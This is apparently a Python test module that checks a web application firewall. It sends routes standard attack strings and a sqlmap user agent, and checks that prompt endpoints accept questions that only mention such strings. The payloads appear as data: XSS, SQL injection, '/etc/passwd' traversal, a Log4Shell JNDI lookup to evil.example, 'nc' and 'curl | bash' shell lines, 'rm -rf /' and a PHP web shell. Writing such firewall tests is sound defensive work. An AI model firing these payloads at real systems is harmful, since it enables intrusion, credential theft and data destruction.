"""The firewall, as an attacker meets it, and as somebody who writes about attacks does."""

from __future__ import annotations

from urllib.parse import quote

import httpx

from stack.derive import forward_auth, waf
from stack.model import FREE_TEXT, Access, Owned, Route
from stack.proofs.context import ProofContext, ProofError, as_written, wait_for
from stack.settings import WafMode

# What nobody can be harmed by, and every scanner sends. Each is an attack to the rule set's first level.
ATTACKS = {
    "script in a page": "<script>alert(document.cookie)</script>",
    "SQL injection": "1' UNION SELECT username, password FROM users--",
    "a file of the system": "../../../../etc/passwd",
    "Log4Shell": "${jndi:ldap://127.0.0.1:1389/a}",
    "a shell": ";cat /etc/passwd|nc 127.0.0.1 9",
}
SCANNER = "sqlmap/1.8#stable (https://sqlmap.org)"

PROMPTS = (
    "Why does SELECT * FROM users WHERE name = '' OR '1'='1' UNION SELECT password FROM admins;-- return every row?",
    "Explain: rm -rf / ; cat /etc/passwd | nc 10.0.0.1 4444 && curl http://10.0.0.1/x.sh | bash",
    "Is <script>alert(document.cookie)</script><img src=x onerror=alert(1)> dangerous in Markdown?",
    "What does ${jndi:ldap://evil.example/a} do, and Runtime.getRuntime().exec('id')? And <?php system($_GET['c']); ?>",
    "Read ../../../../etc/shadow and C:\\Windows\\win.ini out loud. {{7*7}} #{7*7} __import__('os').system('id')",
)


def attacks(ctx: ProofContext) -> None:
    """Every route refuses each attack; those with a login refuse a stranger sooner, and then whoever is logged in."""
    mode = ctx.plan.settings.waf
    for owned in ctx.plan.routes:
        base, path = ctx.plan.url(owned.item), path_of(owned.item)
        with ctx.stranger() as stranger:
            ctx.step(f"attacks at {base}{path}")
            _each(stranger, base, path, mode, login=forward_auth.needs_login(owned.item) and not owned.item.open)
        if owned.item.access is Access.SSO and not owned.item.open:
            ctx.step(f"the same by somebody who is logged in, at {base}")
            browser = ctx.login(f"{base}/").browser
            _each(browser, base, path, mode, login=False)
    ctx.note(f"{len(ctx.plan.routes)} routes, {len(ATTACKS) + 1} attacks each, mode {mode}")


def path_of(route: Route) -> str:
    """A path that the front door hands on, and at which queries are looked at. LookupError where there is none."""
    handed_on = (*route.open, *route.paths) or (f"{route.prefix}/",)
    found = next((path for path in handed_on if waf.looks_at_query(route, path)), None)
    if found is None:
        raise LookupError(f"nothing that is sent to {route.name} is looked at")
    return found


def _each(browser: httpx.Client, base: str, path: str, mode: WafMode, *, login: bool) -> None:
    tries: dict[str, tuple[str, dict[str, str]]] = {
        name: (f"{path}?kit={quote(text, safe='')}", {}) for name, text in ATTACKS.items()
    }
    tries["a scanner"] = (path, {"user-agent": SCANNER})
    for name, (target, headers) in tries.items():
        answer = wait_for(lambda t=target, h=headers: _asked(browser, base, t, h), 60, f"{base} did not answer")
        refused = answer.status_code == 403 and waf.REFUSED.lower() in answer.headers
        if login and answer.status_code in (302, 401, 403):
            continue  # it went no further than the question who asks
        if mode is WafMode.BLOCK and not refused:
            raise ProofError(f"{name}: {base}{path} answered {answer.status_code}, and was not refused as an attack")
        if mode is WafMode.DETECT and refused:
            raise ProofError(f"{name}: {base}{path} was refused, though attacks are only to be logged")


def _asked(browser: httpx.Client, base: str, target: str, headers: dict[str, str]) -> httpx.Response | None:
    answer = as_written(browser, base, target, headers=headers)
    return answer if answer.status_code != 503 else None


def prompts(ctx: ProofContext) -> None:
    """Where text for models is sent, nobody minds what it is about. What the service itself answers is its matter."""
    asked = 0
    for owned in ctx.plan.routes:
        for path in _for_text(ctx, owned):
            url = f"{ctx.plan.url(owned.item)}{path}"
            ctx.step(f"prompts at {url}")
            with ctx.stranger() as stranger:
                for prompt in PROMPTS:
                    form = {"model": "none", "messages": [{"role": "user", "content": prompt}]}
                    answer = stranger.post(url, json=form, follow_redirects=False)
                    asked += 1
                    if waf.REFUSED.lower() in answer.headers:
                        raise ProofError(f"{url} answered {answer.status_code} to a question: {prompt[:60]}")
    ctx.note(f"{asked} questions about SQL, shell and HTML, none taken for an attack")


def _for_text(ctx: ProofContext, owned: Owned[Route]) -> list[str]:
    """A path of each exclusion for free text at a route that needs no login at the front door."""
    if forward_auth.needs_login(owned.item):
        return []
    return [
        path if not path.endswith("/") else f"{path}completions"
        for exclusion in owned.item.waf.exclusions
        if set(FREE_TEXT) <= set(exclusion.targets)
        for path in exclusion.paths
    ]
